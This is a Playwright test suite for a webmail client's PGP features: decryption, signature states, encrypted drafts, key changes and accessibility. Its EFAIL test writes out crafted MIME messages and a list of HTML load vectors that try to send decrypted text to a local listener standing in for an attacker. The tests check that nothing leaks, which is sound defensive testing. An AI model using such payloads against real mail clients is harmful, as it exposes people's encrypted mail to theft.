import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, afterEach, before, test } from 'node:test'
import type { Browser, Page } from 'playwright-core'
import { run } from '../interop/harness/program.ts'
import { Workbench } from '../interop/harness/workbench.ts'
import { House } from './harness/house.ts'
import { encryptedParts, type MemberKey, PASSPHRASE, PgpPost, pgpMime } from './harness/pgp-post.ts'
import { startBrowser, Visitor } from './harness/visitor.ts'

const SECRET = 'the wolf comes at midnight'
const FROM = 'From: Ada <ada@example.net>\nTo: anna@posthus.test\n'
const head = (subject: string) => `${FROM}Subject: ${subject}\nDate: ${new Date().toUTCString()}\n`
const plain = (text = SECRET) => `Content-Type: text/plain; charset=utf-8\n\n${text}\n`

let bench: Workbench
let house: House
let post: PgpPost
let browser: Browser
let anna: Visitor
let page: Page
let key: MemberKey
let ada: string
/** Whoever listens for what leaks. */
let heard: string[]
let leak: string

before(async () => {
  bench = await Workbench.open('webmail-pgp-post')
  house = await House.open('webmail-pgp', ['anna', 'bob'])
  post = await PgpPost.open(bench, house)
  heard = []
  const listener = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  bench.defer(() => void listener.close())
  leak = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
  key = await post.makeMemberKey('anna@posthus.test')
  ada = await post.gnupg.generate('Ada Øst <ada@example.net>', 'ecc')
  browser = await startBrowser()
  anna = await Visitor.open(browser, house.origin, { width: 1280, theme: 'light' })
  page = anna.page
  await anna.signIn()
  const { publicKey, wrappedPrivateKey } = key
  await jmap('PgpKey/set', { create: { key: { publicKey, wrappedPrivateKey, isDefault: true } } })
})
afterEach(() => {
  assert.deepEqual(anna.complaints.splice(0), [])
  assert.deepEqual(heard.splice(0), [])
})
after(async () => {
  await browser?.close()
  await house?.[Symbol.asyncDispose]()
  await bench?.[Symbol.asyncDispose]()
})

/** Asks the server as the page does. */
async function jmap(name: string, args: object): Promise<Record<string, unknown>> {
  const response = await page.evaluate(
    async ([call, given]) => {
      const find = (tag: string) =>
        (
          globalThis as unknown as { document: { querySelector(tag: string): { textContent: string } } }
        ).document.querySelector(tag)
      const { session, csrf } = JSON.parse(find('script[type="application/json"]').textContent)
      const accountId = Object.values(session.primaryAccounts)[0]
      const answer = await fetch('/jmap/api', {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-csrf': csrf },
        body: JSON.stringify({
          using: Object.keys(session.capabilities),
          methodCalls: [[call, { accountId, ...(given as object) }, '0']],
        }),
      })
      return await answer.text()
    },
    [name, args] as const,
  )
  const { methodResponses } = JSON.parse(response) as { methodResponses: [string, Record<string, unknown>][] }
  const [what, answer] = methodResponses[0] ?? []
  assert.equal(what, name, response)
  return answer ?? {}
}

const rowOf = (subject: string) => page.locator('.row a', { has: page.getByText(subject, { exact: true }) })
const state = () => page.locator('.sealstate')
const saidBy = async (where: ReturnType<Page['locator']>) => ((await where.textContent()) ?? '').replace(/\s+/g, ' ')

const addresses = new Map<string, string>()

/** Shows the message of a row, and says what stands above it. */
async function read(subject: string): Promise<string> {
  const known = addresses.get(subject)
  if (known === undefined) {
    await page.goto('/mail/#/')
    // What has come last lies on top, wherever the list was left.
    await page.locator('.scroller').evaluate((element) => element.scrollTo(0, 0))
    await rowOf(subject).click()
  } else await page.goto(known)
  await page.locator('.reading h1').waitFor()
  addresses.set(subject, page.url())
  await state().waitFor()
  return saidBy(state())
}

async function unlock(): Promise<void> {
  await page.getByRole('button', { name: 'Enter the passphrase' }).first().click()
  await page.locator('dialog input[type=password]').fill(PASSPHRASE)
  await page.keyboard.press('Enter')
}

/** Keys of somebody that the member has accepted; the first is in use. */
async function know(address: string, fingerprints: readonly string[]): Promise<void> {
  const keys = await Promise.all(
    fingerprints.map(async (fingerprint, at) => ({
      fingerprint,
      publicKey: await post.gnupg.exportPublic(fingerprint),
      acceptance: at === 0 ? 'accepted' : 'replaced',
      source: 'imported',
      firstSeenAt: '2026-01-01T00:00:00Z',
    })),
  )
  const { ids } = await jmap('PgpCorrespondent/query', { filter: { addresses: [address] } })
  const [id] = ids as string[]
  await jmap('PgpCorrespondent/set', id ? { update: { [id]: { keys } } } : { create: { it: { address, keys } } })
}

/** The field that a key goes along in. */
async function autocryptOf(fingerprint: string, address = 'ada@example.net', name = 'Autocrypt'): Promise<string> {
  const lines = (await post.gnupg.exportPublic(fingerprint))
    .split('\n')
    .filter((line) => line !== '' && !/^[-=]/.test(line))
  const preference = name === 'Autocrypt' ? ' prefer-encrypt=mutual;' : ''
  return `${name}: addr=${address};${preference} keydata=\n${lines.map((line) => ` ${line}\n`).join('')}`
}

function armorOf(message: string): string {
  return /-----BEGIN PGP MESSAGE-----[\s\S]*-----END PGP MESSAGE-----/.exec(message)?.[0] ?? ''
}

/** The armour with one of its letters changed. */
function flipped(armor: string): string {
  const at = armor.indexOf('\n\n') + 230
  return armor.slice(0, at) + (armor[at] === 'A' ? 'B' : 'A') + armor.slice(at + 1)
}

test('what GnuPG has encrypted and signed is locked first, and read with the passphrase: umlauts, subject, file', async () => {
  const inner = `Content-Type: multipart/mixed; boundary="p"; protected-headers="v1"\nFrom: Ada Øst <ada@example.net>\nTo: anna@posthus.test\nSubject: =?UTF-8?Q?Gr=C3=BC=C3=9Fe_aus_=C3=85lesund?=\n\n--p\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nÆrøskøbing, Grüße: ${SECRET}\n--p\nContent-Type: application/pdf; name="plan.pdf"\nContent-Disposition: attachment; filename="plan.pdf"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQKZ2VoZWltCg==\n--p\nContent-Type: message/rfc822\n\nFrom: eva@example.org\nSubject: Within\n\nThe letter in the letter.\n--p--\n`
  const autocrypt = await autocryptOf(ada)
  await post.deliver(
    [
      await post.encrypted(
        `${head('...')}${autocrypt}`,
        ['--local-user', ada, '--recipient', key.fingerprint, '--sign'],
        inner,
      ),
    ],
    'anna@posthus.test',
  )
  await rowOf('...').waitFor()
  assert.match(await read('...'), /Encrypted to your key [0-9A-F ]{49}\. It can be read when/)
  assert.equal(await page.locator('.reading').getByText(SECRET).count(), 0)
  await unlock()
  await page.locator('.text', { hasText: `Ærøskøbing, Grüße: ${SECRET}` }).waitFor()
  assert.equal(await page.locator('.reading h1').textContent(), 'Grüße aus Ålesund')
  assert.match(await saidBy(state()), /Signed by ada@example\.net, with the first key that was seen for this address/)
  assert.match(await saidBy(page.locator('.point').nth(2)), /encrypted, signed/)
  await page.getByRole('button', { name: 'Show the message' }).click()
  await page.locator('.inner', { hasText: 'The letter in the letter.' }).getByText('Within').waitFor()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.locator('.file', { hasText: 'plan.pdf' }).click(),
  ])
  assert.equal(download.suggestedFilename(), 'plan.pdf')
  assert.equal(Buffer.concat(await (await download.createReadStream()).toArray()).toString(), '%PDF-1.4\ngeheim\n')
})

test('each state of a message is told in words, nothing is shown of what is not opened, and nobody hears of it', async () => {
  const mallory = await post.gnupg.generate('mallory@example.org', 'ecc')
  const stranger = await post.gnupg.generate('stranger@example.org', 'ecc')
  const short = await post.gnupg.generate('ada@example.net', 'rsa1024')
  await know('mallory@example.org', [mallory])
  await know('ada@example.net', [ada, short])
  const to = ['--recipient', key.fingerprint]
  const signedBy = (who: string) => [...to, '--local-user', who, '--sign']
  const encrypted = (subject: string, args: readonly string[]) => post.encrypted(head(subject), args, plain())
  const armor = Buffer.from(await post.gpg([...to, '--compress-algo', 'none', '--encrypt'], plain())).toString()
  const old = Buffer.from(await post.gpg(['--rfc2440', ...to, '--encrypt'], plain())).toString()
  const password = Buffer.from(await post.gpg(['--passphrase', 'x', '--symmetric'], plain())).toString()
  const expired = ['--faked-system-time', '20260102T000000', '--default-sig-expire', '1d']
  const ancient = await post.gnupg.generate('ada@example.net', 'ecc', '0', ['--faked-system-time', '20260101T000000'])
  await know('ada@example.net', [ada, short, ancient])
  const signed = await post.signed(head('signed'), ada, plain())
  const rows: [subject: string, message: string, said: RegExp, isShown: boolean][] = [
    ['unsigned', await encrypted('unsigned', to), /opened here.*Not signed: anybody who has your public key/, true],
    [
      'wrong signer',
      await encrypted('wrong signer', signedBy(mallory)),
      /Signed by mallory@example\.org, who is not the sender Ada/,
      true,
    ],
    ['unknown signer', await encrypted('unknown signer', signedBy(stranger)), /which is not known here/, true],
    ['weak', await encrypted('weak', signedBy(short)), /can be forged today/, true],
    ['expired', await post.signed(head('expired'), ancient, plain(), expired), /was made to end, and is over/, true],
    ['signed', signed, /Signed by ada@example\.net/, true],
    [
      'changed',
      signed.replace('Subject: signed', 'Subject: changed').replace('midnight', 'midnight!'),
      /The signature does not fit/,
      true,
    ],
    [
      'inline',
      `${head('inline')}Content-Type: text/plain\n\n${Buffer.from(await post.gpg([...signedBy(ada), '--encrypt'], `${SECRET}\n`))}`,
      /Subject and sender were not.*Signed by ada@example\.net/,
      true,
    ],
    [
      'clearsigned',
      `${head('clearsigned')}Content-Type: text/plain\n\n${Buffer.from(await post.gpg(['--local-user', ada, '--clear-sign'], `${SECRET}\n`))}`,
      /Signed by ada@example\.net/,
      true,
    ],
    ['tampered', pgpMime(head('tampered'), flipped(armor)), /Not opened: it was changed on the way/, false],
    [
      'cut',
      pgpMime(head('cut'), armor.slice(0, 250)),
      /Not opened: it was changed on the way, or is not complete/,
      false,
    ],
    [
      'no integrity',
      pgpMime(head('no integrity'), old),
      /Not opened: it is encrypted in the old way without integrity/,
      false,
    ],
    ['password', pgpMime(head('password'), password), /Not opened: it is encrypted with a password/, false],
    [
      'not for me',
      await encrypted('not for me', ['--recipient', ada]),
      /Encrypted to keys that are not yours: [0-9A-F]{4} /,
      false,
    ],
    ['hidden', await encrypted('hidden', ['--hidden-recipient', ada]), /does not say for whom/, false],
    ['nonsense', pgpMime(head('nonsense'), 'hello'), /Not opened: it is called encrypted/, false],
  ]
  await post.deliver(
    rows.map(([, message]) => message),
    'anna@posthus.test',
  )
  for (const [subject, , said, isShown] of rows) {
    assert.match(await read(subject), said, subject)
    if (isShown) await page.locator('.text', { hasText: SECRET }).waitFor()
    else assert.equal(await page.locator('.text, .html').count(), 0, subject)
  }
})

test('EFAIL: what is encrypted beside other text is never opened; HTML that was encrypted loads nothing; the listener hears nothing', async () => {
  const to = ['--recipient', key.fingerprint]
  const seal = async (entity: string) => Buffer.from(await post.gpg([...to, '--encrypt'], entity)).toString()
  const armor = await seal(`Content-Type: text/html\n\n${SECRET}`)
  const within = `--m\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="e"\n\n${encryptedParts(armor)}`
  const open = `--m\nContent-Type: text/html\n\n<img src="${leak}/a?\n`
  const close = '--m\nContent-Type: text/html\n\n">\n'
  const mixed = (subject: string, parts: string) =>
    `${head(subject)}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="m"\n\n${parts}--m--\n`
  const html = (subject: string, body: string) =>
    `${head(subject)}MIME-Version: 1.0\nContent-Type: text/html\n\n${body}\n`
  const rows: [string, string][] = [
    ['efail around', mixed('efail around', open + within + close)],
    ['efail before', mixed('efail before', open + within)],
    ['efail alone', mixed('efail alone', within)],
    ['efail in HTML', html('efail in HTML', `<pre>\n${armor}</pre>`)],
    ['efail in attribute', html('efail in attribute', `<img src="${leak}/b?\n${armor}">`)],
    ['efail below text', `${head('efail below text')}\nSee below\n\n${armor}`],
    [
      'efail as in Outlook',
      mixed(
        'efail as in Outlook',
        `--m\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--m\nContent-Type: application/octet-stream\n\n${armor}\n`,
      ),
    ],
  ]
  await post.deliver(
    rows.map(([, message]) => message),
    'anna@posthus.test',
  )
  for (const [subject] of rows) {
    assert.match(await read(subject), /The encrypted part is not opened: other text stands beside it/, subject)
    assert.equal(await page.locator('.reading').getByText(SECRET).count(), 0, subject)
  }
  const loads = [
    '<img src="U/1">',
    '<link rel=stylesheet href="U/2">',
    '<style>@import url(U/3);p{background:url(U/4)}</style>',
    '<p style="background:url(U/5)">',
    '<iframe src="U/6"></iframe>',
    '<video poster="U/7" src="U/8"></video>',
    '<img srcset="U/9 2x">',
    '<script>fetch("U/10")</script>',
    '<meta http-equiv=refresh content="0;url=U/11">',
    '<svg><image href="U/12"/></svg>',
    '<link rel=preconnect href="U/13">',
    '<object data="U/14"></object>',
  ]
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
  const page2 = `<h1>Plan</h1><p>${SECRET}</p><img src="cid:dot@x" alt="dot" width=9 height=9>${loads.join('').replaceAll('U', leak)}`
  const related = `Content-Type: multipart/related; boundary="r"\n\n--r\nContent-Type: text/html; charset=utf-8\n\n${page2}\n--r\nContent-Type: image/png\nContent-ID: <dot@x>\nContent-Transfer-Encoding: base64\nContent-Disposition: inline\n\n${dot}\n--r--\n`
  await post.deliver([pgpMime(head('sealed HTML'), await seal(related))], 'anna@posthus.test')
  assert.match(await read('sealed HTML'), /opened here/)
  const frame = page.frameLocator('.html')
  await frame.getByText(SECRET).waitFor()
  assert.match((await frame.locator('img[alt=dot]').getAttribute('src')) ?? '', /^data:image\/png;base64,/)
  assert.equal(await page.locator('.images').count(), 0)
  assert.equal(
    await page.locator('.html').getAttribute('sandbox'),
    'allow-scripts allow-popups allow-popups-to-escape-sandbox',
  )
})

/** What IMAP has of one of the first messages of a mailbox: the one that holds something. */
async function eventually(owner: string, mailbox: string, holds: RegExp): Promise<string> {
  const url = `imaps://localhost:${house.posthus.ports.imaps}/${mailbox}`
  const user = ['-u', `${owner}@posthus.test:Fjord-Lantern-4711-Ferry`]
  for (let tries = 0; tries < 60; tries++) {
    for (const index of ['1', '2', '3']) {
      const { stdout } = await run('curl', [
        ...['-sS', '--cacert', house.posthus.authority],
        ...user,
        `${url};MAILINDEX=${index}`,
      ])
      if (holds.test(stdout)) return stdout
    }
    await page.waitForTimeout(200)
  }
  return assert.fail(`${mailbox} of ${owner} never had ${holds}`)
}

test('a letter is encrypted and signed, and its draft and its files are never in clear', async () => {
  const bob = await post.gnupg.generate('Bob <bob@posthus.test>', 'ecc')
  await know('bob@posthus.test', [bob])
  await page.goto('/mail/#/')
  await page.keyboard.press('c')
  const composer = page.locator('.composer')
  await composer.getByLabel('To', { exact: true }).fill('bob@posthus.test')
  await composer.getByText('there is a key for everybody').waitFor()
  await composer.getByRole('button', { name: 'Encrypt' }).click()
  await composer.getByText('Text, subject and files are encrypted').waitFor()
  await composer.getByLabel('Subject').fill('Grüße, streng geheim')
  await composer.locator('.writing, textarea').fill(`Lieber Bob, ${SECRET}, ÆØÅ.`)
  await composer
    .locator('input[type=file]')
    .first()
    .setInputFiles({ name: 'plan.txt', mimeType: 'text/plain', buffer: Buffer.from('the plan of the wolf') })
  await composer.locator('.letter-files', { hasText: 'plan.txt' }).waitFor()
  await composer.getByText('Draft saved.').waitFor()
  const draft = await eventually('anna', 'Drafts', /multipart\/encrypted[\s\S]*-----END PGP MESSAGE-----/)
  for (const secret of [SECRET, 'geheim', 'plan.txt', 'Lieber']) assert.ok(!draft.includes(secret), secret)
  const opened = Buffer.from(await post.gpg(['--decrypt'], armorOf(draft))).toString()
  assert.match(opened, /plan\.txt/)
  await anna.assertAccessible('composer with PGP')
  await composer.locator('.send[type=submit]').click()
  await page.locator('.toast', { hasText: 'Sent.' }).waitFor()
})

test('an answer to what was encrypted is encrypted, quotes what is shown, and asks before it goes in clear', async () => {
  await read('...')
  await page.keyboard.press('r')
  const composer = page.locator('.composer')
  await composer.getByRole('button', { name: 'Encrypt', pressed: true }).waitFor()
  assert.equal(await composer.getByLabel('Subject').inputValue(), 'Re: Grüße aus Ålesund')
  assert.match((await composer.locator('.writing, textarea').textContent()) ?? '', /Ærøskøbing, Grüße: the wolf/)
  await composer.getByRole('button', { name: 'Encrypt' }).click()
  await composer.getByText('What is quoted was encrypted. It goes in clear now.').waitFor()
  await composer.locator('.send[type=submit]').click()
  const question = composer.getByRole('alertdialog')
  await question.getByText('every server on the way can read it').waitFor()
  await question.getByText('Not like that').click()
  await composer.getByRole('button', { name: 'Encrypt' }).click()
  await composer.locator('[aria-label="Throw away"]').click()
})

test('another key of a sender is shown beside the one in use, and used when the member says so', async () => {
  const other = await post.gnupg.generate('Ada Øst <ada@example.net>', 'ecc')
  const message = await post.encrypted(
    `${head('new key')}${await autocryptOf(other)}`,
    ['--recipient', key.fingerprint, '--local-user', other, '--sign'],
    plain(),
  )
  await post.deliver([message], 'anna@posthus.test')
  assert.match(await read('new key'), /calls itself ada@example\.net .* and is not the one that is in use/)
  const change = page.locator('.keychange')
  const said = await saidBy(change)
  for (const one of [ada, other]) assert.ok(said.includes(one.toUpperCase().match(/.{4}/g)?.join(' ') ?? '?'), said)
  await anna.assertAccessible('key change')
  await change.getByRole('button', { name: 'Use the new key' }).click()
  await page.locator('.sealstate', { hasText: 'with the key that you have accepted' }).waitFor()
  assert.equal(await change.count(), 0)
})

test('the format of Thunderbird opens: protected fields, a legacy part, keys that are passed on', async () => {
  const carol = await post.gnupg.generate('carol@example.org', 'ecc')
  const inner = `Content-Type: multipart/mixed; boundary="p"; protected-headers="v1"\nFrom: Ada <ada@example.net>\nTo: anna@posthus.test, carol@example.org\n${await autocryptOf(carol, 'carol@example.org', 'Autocrypt-Gossip')}Subject: =?UTF-8?Q?Gr=C3=BC=C3=9Fe?=\nMessage-ID: <inner@example.net>\n\n--p\nContent-Type: text/rfc822-headers; protected-headers="v1"\nContent-Disposition: inline\n\nSubject: Gruesse\n--p\nContent-Type: text/plain; charset=UTF-8\n\n${SECRET}\n--p--\n`
  const outer = head('thunderbird').replace('To: anna@posthus.test', 'To: anna@posthus.test, carol@example.org')
  await post.deliver(
    [
      await post.encrypted(
        outer,
        ['--recipient', key.fingerprint, '--recipient', carol, '--local-user', ada, '--sign'],
        inner,
      ),
    ],
    'anna@posthus.test',
  )
  assert.match(
    await read('thunderbird'),
    /Signed by ada@example\.net, with an earlier key of theirs.*Outside the subject was: thunderbird/,
  )
  assert.equal(await page.locator('.reading h1').textContent(), 'Grüße')
  assert.equal((await page.locator('.text').textContent())?.trim(), SECRET)
  const { list } = await jmap('PgpCorrespondent/get', { ids: null })
  const known = (list as { address: string; keys: { source: string; acceptance: string }[] }[]).find(
    ({ address }) => address === 'carol@example.org',
  )
  assert.deepEqual(
    known?.keys.map(({ source, acceptance }) => [source, acceptance]),
    [['gossip', 'pending']],
  )
})

test('a draft that is encrypted is written on with its files; a letter that is taken back too', async () => {
  await page.goto('/mail/#/')
  await page.keyboard.press('c')
  const composer = page.locator('.composer')
  await composer.getByLabel('To', { exact: true }).fill('bob@posthus.test')
  await composer.getByRole('button', { name: 'Encrypt' }).click()
  await composer.getByLabel('Subject').fill('Later')
  await composer.locator('.writing').fill(SECRET)
  await composer
    .locator('input[type=file]')
    .first()
    .setInputFiles({ name: 'plan.txt', mimeType: 'text/plain', buffer: Buffer.from('the plan') })
  await composer.locator('.letter-files', { hasText: 'plan.txt' }).waitFor()
  await composer.getByText('Draft saved.').waitFor()
  await composer.locator('[aria-label="Close"], .closeDraft').first().click()
  await page.keyboard.press('g')
  await page.keyboard.press('d')
  await rowOf('[...]').first().click()
  await composer.locator('.writing', { hasText: SECRET }).waitFor()
  assert.equal(await composer.getByLabel('Subject').inputValue(), 'Later')
  await composer.locator('.letter-files', { hasText: 'plan.txt' }).waitFor()
  await composer.getByRole('button', { name: 'Encrypt', pressed: true }).waitFor()
  // What was sent before could be taken back until a moment ago.
  await page.locator('.toast', { hasText: 'Sent.' }).waitFor({ state: 'hidden' })
  await composer.locator('.send[type=submit]').click()
  await page.locator('.toast', { hasText: 'Sent.' }).getByRole('button').click()
  await composer.locator('.writing', { hasText: SECRET }).waitFor()
  await composer.locator('[aria-label="Throw away"]').click()
})

test('mail in clear is sent; a key that comes as a file is looked at before it is taken', async () => {
  await page.goto('/mail/#/')
  await page.keyboard.press('c')
  const composer = page.locator('.composer')
  await composer.getByLabel('To', { exact: true }).fill('bob@posthus.test')
  await composer.getByRole('button', { name: 'Sign' }).waitFor()
  await composer.getByLabel('Subject').fill('In clear')
  await composer.locator('.writing').fill('Hello.')
  await composer.locator('.send[type=submit]').click()
  await page.locator('.toast', { hasText: 'Sent.' }).waitFor()
  const dora = await post.gnupg.generate('Dora <dora@example.org>', 'ecc')
  const file = `--m\nContent-Type: application/pgp-keys; name="dora.asc"\nContent-Disposition: attachment; filename="dora.asc"\n\n${await post.gnupg.exportPublic(dora)}\n--m--\n`
  await post.deliver(
    [
      `From: Dora <dora@example.org>\nTo: anna@posthus.test\nSubject: my key\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="m"\n\n--m\nContent-Type: text/plain\n\nHere it is.\n${file}`,
    ],
    'anna@posthus.test',
  )
  await rowOf('my key').click()
  await page.getByRole('button', { name: 'Look at the key in dora.asc' }).click()
  await page.locator('.keyfile', { hasText: 'Key of dora@example.org' }).waitFor()
  await page.getByRole('button', { name: 'Use this key for dora@example.org' }).click()
  await page.getByText('The key is kept for dora@example.org.').waitFor()
})

test('what was sent arrives: GnuPG opens it and finds text, subject, file and signature; mail in clear carries the own key', async () => {
  const message = await eventually('bob', 'INBOX', /-----END PGP MESSAGE-----/)
  for (const secret of [SECRET, 'geheim', 'plan.txt', 'Lieber']) assert.ok(!message.includes(secret), secret)
  assert.match(message, /^Subject: \[\.\.\.\]\r?$/m)
  assert.match(message, /^Autocrypt: addr=anna@posthus\.test; prefer-encrypt=mutual; keydata=/m)
  const answer = await post.gnupg.ask(['--decrypt'], armorOf(message))
  const status = answer.status.join('\n')
  assert.match(status, new RegExp(`VALIDSIG ${key.fingerprint.toUpperCase()}`))
  assert.match(status, /DECRYPTION_OKAY/)
  const inner = Buffer.from(answer.octets).toString()
  assert.match(inner, /Lieber Bob, the wolf comes at midnight, =C3=86=C3=98=C3=85/)
  assert.match(inner, /^Subject: =\?utf-8\?/im)
  assert.ok(inner.includes(Buffer.from('the plan of the wolf').toString('base64')))
  const clear = await eventually('bob', 'INBOX', /^Subject: In clear/m)
  const keydata =
    /^Autocrypt: addr=anna@posthus\.test; prefer-encrypt=mutual; keydata=((?:\r\n [A-Za-z0-9+/=]+)+)\r$/m.exec(
      clear,
    )?.[1] ?? ''
  const shown = await post.gnupg.ask(['--with-colons', '--show-keys'], Buffer.from(keydata, 'base64'))
  assert.ok(Buffer.from(shown.octets).toString().includes(key.fingerprint.toUpperCase()))
})

test('what was decrypted is searched in the browser: what was opened, all of it when asked for, nothing any more once the key is locked', async () => {
  await page.goto('/mail/#/')
  await page.reload()
  await page.locator('.row').first().waitFor()
  await page.keyboard.press('/')
  await page.keyboard.type('Ærøskøbing')
  await page.keyboard.press('Enter')
  const found = page.locator('.foundsealed')
  await found.getByText('are not searched while your key is locked').waitFor()
  await found.getByText('Open all encrypted messages').click()
  await page.locator('dialog input[type=password]').fill(PASSPHRASE)
  await page.keyboard.press('Enter')
  await found.locator('a', { hasText: 'Grüße aus Ålesund' }).waitFor()
  assert.equal(await found.locator('a').count(), 1)
  await found.getByText(': 1 found.').waitFor()
  await anna.assertAccessible('search in encrypted messages')
  await found.locator('a').click()
  await page.locator('.text', { hasText: SECRET }).waitFor()
  await page.goto('/mail/#/settings/encryption')
  await page.getByRole('button', { name: /Lock/ }).first().click()
  await page.goBack()
  await page.locator('.sealstate', { hasText: 'It can be read when' }).waitFor()
  await found.getByText('are not searched while your key is locked').waitFor()
  assert.equal(await found.locator('a').count(), 0)
  assert.equal(await page.getByText('Ærøskøbing, Grüße').count(), 0)
  await unlock()
  await page.locator('.text', { hasText: SECRET }).waitFor()
})

for (const theme of ['light', 'dark'] as const) {
  for (const width of [320, 768, 1280]) {
    test(`axe finds nothing in messages with PGP, in the ${theme} theme ${width} pixels wide`, async () => {
      await anna.resize({ width, theme })
      for (const subject of ['...', 'tampered', 'wrong signer']) {
        await read(subject)
        await page.locator('.protection summary').click()
        await anna.assertAccessible(subject)
      }
    })
  }
}

for (const theme of ['light', 'dark'] as const) {
  for (const width of [320, 768, 1280]) {
    test(`axe finds nothing where a letter is written that cannot be encrypted, in the ${theme} theme ${width} pixels wide`, async () => {
      await anna.resize({ width, theme })
      await page.goto('/mail/')
      // A message in passing lies over what is looked at.
      await page.reload()
      await page.locator('.listbar').waitFor()
      await page.locator('.corner [aria-label="New message"], .write').locator('visible=true').first().click()
      const composer = page.locator('.composer')
      await composer.getByLabel('To', { exact: true }).fill('nobody@posthus.test')
      await composer.getByText('There is no key of nobody@posthus.test').waitFor()
      await anna.assertAccessible('composer')
      await composer.locator('[aria-label="Throw away"]').click()
    })
  }
}
